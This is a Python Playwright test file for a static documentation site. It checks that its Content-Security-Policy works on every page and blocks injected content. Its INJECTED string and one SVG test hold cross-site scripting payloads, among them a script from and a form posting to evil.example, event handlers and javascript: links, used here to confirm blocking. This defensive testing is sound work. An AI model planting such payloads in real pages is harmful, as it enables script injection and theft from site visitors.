"""The policy that `deploy/` sends with pages: all of a site works under it, and what was put into a page does not run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, BrowserContext, Page, expect

from kbgen.dialects.video_hosts import hosted
from tests import plain

DEPLOY = Path(__file__).parents[2] / "deploy"
LOCALES = ("en", "ar", "fa")
# Gathers what the policy refuses, from before the page's own first script.
WATCH = """
window.refused = [];
addEventListener("securitypolicyviolation", (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`), true);
"""
HEADER = "content-security-policy"
# The player of a film on each host, in the order of the policy.
FILMS_ELSEWHERE = ("https://youtu.be/dQw4w9WgXcQ", "https://vimeo.com/76979871", "https://www.aparat.com/v/abc12")
PLAYERS = [found.player for film in FILMS_ELSEWHERE if (found := hosted(film))]

expect.set_options(timeout=15_000)


@pytest.fixture
def reader(chromium: Browser) -> Iterator[Page]:
    context: BrowserContext = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(15_000)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def kinds_of_pages(site: Path) -> list[str]:
    """One page of each kind and language, and all that stand at the top."""
    found: dict[tuple[str, str], str] = {}
    for file in sorted(site.rglob("*.html")):
        name = file.relative_to(site).as_posix()
        body = re.search(r'<html lang="(\w+)".*<body(?: class="([^"]*)")?', file.read_text("utf-8"), re.DOTALL)
        assert body, name
        found.setdefault((body[1], f"{body[2]} {name.count('404')}" if "/" in name else name), name)
    return sorted(found.values())


def policies() -> list[str]:
    """The policy for pages as each file has it."""
    texts = [(DEPLOY / name).read_text("utf-8") for name in ("nginx.conf", "Caddyfile")]
    return [policy for text in texts for policy in re.findall(r"\"(default-src 'none'; script-src[^\"]*)\"", text)]


def test_both_servers_send_one_policy_that_allows_no_inline_script_and_our_players():
    first, second = policies()
    assert first == second
    rules = dict(rule.split(" ", 1) for rule in first.split("; "))
    assert rules["script-src"] == "'self'"
    assert rules["frame-src"].split() == ["/".join(player.split("/")[:3]) for player in PLAYERS]


def test_every_kind_of_page_works_under_the_policy(site_behind: tuple[str, Path], reader: Page):
    address, site = site_behind
    names = kinds_of_pages(site)
    assert len(names) > 3 * 10
    for name in names:
        answer = reader.goto(f"{address}/{name.removesuffix('index.html')}")
        assert answer, name
        if "/" in name:
            assert answer.headers[HEADER] == policies()[0], name
        # What scripts ask for, they ask for at once.
        reader.evaluate("() => new Promise((done) => requestIdleCallback(done))")
        # The root and old addresses lead on, to pages that are looked at in turn.
        assert reader.evaluate("refused") == [], name


@pytest.mark.parametrize("locale", LOCALES)
def test_what_readers_do_works_under_the_policy(site_behind: tuple[str, Path], reader: Page, locale: str):
    address, _ = site_behind
    reader.route("https://**", lambda route: route.abort())
    reader.goto(f"{address}/{locale}/start/set-up/")
    reader.locator(".kb-theme").click()
    assert reader.evaluate("document.documentElement.dataset.theme") == "dark"
    reader.reload()
    assert reader.evaluate("document.documentElement.dataset.theme") == "dark"
    reader.locator("a.kb-zoom").first.click()
    expect(reader.locator("dialog.kb-picture img")).to_be_visible()
    reader.keyboard.press("Escape")
    tabs = reader.locator(".tabbed-labels label")
    if tabs.count() > 1:
        tabs.nth(1).click()
    for player in reader.locator("a[data-player]").all():
        player.click()
    reader.locator("#feedback").scroll_into_view_if_needed()
    # A button before its script has come; clicked then, the form goes to the collector, and there is none here.
    reader.locator("#feedback button[value=no][type=button]").click()
    expect(reader.locator("[data-kb-more]")).to_be_visible()
    expect(reader.locator(".kb-contact__channels")).to_be_visible()
    reader.emulate_media(media="print")
    assert reader.evaluate("refused") == []
    reader.emulate_media(media="screen")
    reader.goto(f"{address}/{locale}/")
    reader.locator("#kb-q").press_sequentially("lantern" if locale == "en" else {"ar": "ملاحظة", "fa": "یادداشت"}[locale])
    expect(reader.locator(".kb-suggest a").first).to_be_visible()
    assert reader.evaluate("refused") == []


FILMS = """
<p><a class="kb-video kb-video--hosted" href="{address}" data-player="{player}"><span class="kb-video__play">Play</span></a></p>
<table><tr><td style="text-align: right">1</td></tr></table><img src="https://pictures.example.org/a.png" alt="a">
"""


def test_films_of_known_hosts_tables_and_pictures_of_other_hosts_are_shown(site_behind: tuple[str, Path], reader: Page):
    address, site = site_behind
    page = site / "en" / "start" / "set-up" / "index.html"
    whole = page.read_text("utf-8")
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8ffff3f0005fe02fe"
    )
    reader.route("https://pictures.example.org/**", lambda route: route.fulfill(body=png, content_type="image/png"))
    for source in PLAYERS:
        reader.route(source, lambda route: route.fulfill(body="<title>player</title>", content_type="text/html"))
        films = FILMS.format(address="https://example.org/", player=source.replace("&", "&amp;"))
        page.write_text(whole.replace('<div class="kb-prose">', f'<div class="kb-prose">{films}', 1), "utf-8")
        reader.goto(f"{address}/en/start/set-up/")
        with reader.expect_response(source):
            reader.locator("a[data-player]").first.click()
        expect(reader.locator("iframe.kb-video").first).to_have_attribute("src", source)
        assert reader.evaluate("getComputedStyle(document.querySelector('.kb-prose td')).textAlign") == "right"
        assert reader.evaluate("refused") == []
    page.write_text(whole, "utf-8")


INJECTED = """
<script>window.ran = "inline"</script><script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,window.ran = 'data'"></script>
<img src="/nothing.png" onerror="window.ran = 'handler'"><svg onload="window.ran = 'drawing'"></svg><base href="https://evil.example/">
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><object data="/en/x.svg"></object>
<a id="evil" href="javascript:window.ran = 'link'">x</a><style>body{display:none}</style>
<form action="https://evil.example/"><button id="send">x</button></form>
"""


def test_what_was_put_into_a_page_does_not_run(site_behind: tuple[str, Path], reader: Page):
    address, site = site_behind
    page = site / "en" / "injected.html"
    page.write_text((site / "en" / "index.html").read_text("utf-8").replace("<main", f"{INJECTED}<main", 1), "utf-8")
    asked: list[str] = []
    reader.context.route("https://**", lambda route: (asked.append(route.request.url), route.abort()))
    reader.goto(f"{address}/en/injected.html")
    reader.locator("#evil").click()
    assert reader.evaluate("getComputedStyle(document.body).display") != "none"
    # Not Playwright's own: that waits for the page to which a form leads.
    reader.evaluate("document.getElementById('send').click()")
    reader.wait_for_timeout(300)
    assert reader.evaluate("window.ran") is None
    assert asked == []
    directives = {entry.split(" ")[0] for entry in reader.evaluate("refused")}
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "base-uri", "form-action"} <= directives


@pytest.mark.parametrize("ending", ["svg", "xml", "xhtml"])
def test_a_drawing_or_document_that_is_opened_by_itself_does_not_run(site_behind: tuple[str, Path], reader: Page, ending: str):
    address, site = site_behind
    active = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = 1"><script>window.ran = 2</script></svg>'
    (site / "en" / f"x.{ending}").write_text(active)
    answer = reader.goto(f"{address}/en/x.{ending}")
    assert answer
    assert answer.headers[HEADER].endswith("; sandbox")
    assert reader.evaluate("[window.ran, self.origin]") == [None, "null"]


def test_pages_that_are_not_there_have_the_policy_too(site_behind: tuple[str, Path]):
    address, _ = site_behind
    for path in ("/nothing", "/fa/nothing/", "/en/nothing.png", "/kb.0123456789.css"):
        answer = plain.get(address + path)
        assert (answer.status_code, answer.headers[HEADER]) == (404, policies()[0]), path
    for path in ("/kbgen-manifest.json", "/en/start/set-up/index.md"):
        answer = plain.get(address + path)
        assert (answer.status_code, answer.headers["x-content-type-options"]) == (200, "nosniff"), path
        assert HEADER not in answer.headers, path


def test_drawings_are_shown_in_pages(site_behind: tuple[str, Path], reader: Page):
    address, site = site_behind
    (site / "en" / "d.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="7"><style>rect{fill:red}</style></svg>'
    )
    (site / "en" / "drawing.html").write_text('<!doctype html><img src="d.svg" alt="d">')
    reader.goto(f"{address}/en/drawing.html")
    assert reader.evaluate("document.images[0].decode().then(() => document.images[0].naturalHeight)") == 7


def test_no_template_of_ours_holds_a_script_or_style(lantern: Path):
    for file in sorted(lantern.rglob("*.html")):
        tree = BeautifulSoup(file.read_text("utf-8"), "html.parser")
        for script in tree.find_all("script"):
            assert script.get("src") or script["type"] in {"application/json", "application/ld+json"}, file
        assert not tree.find_all("style"), file
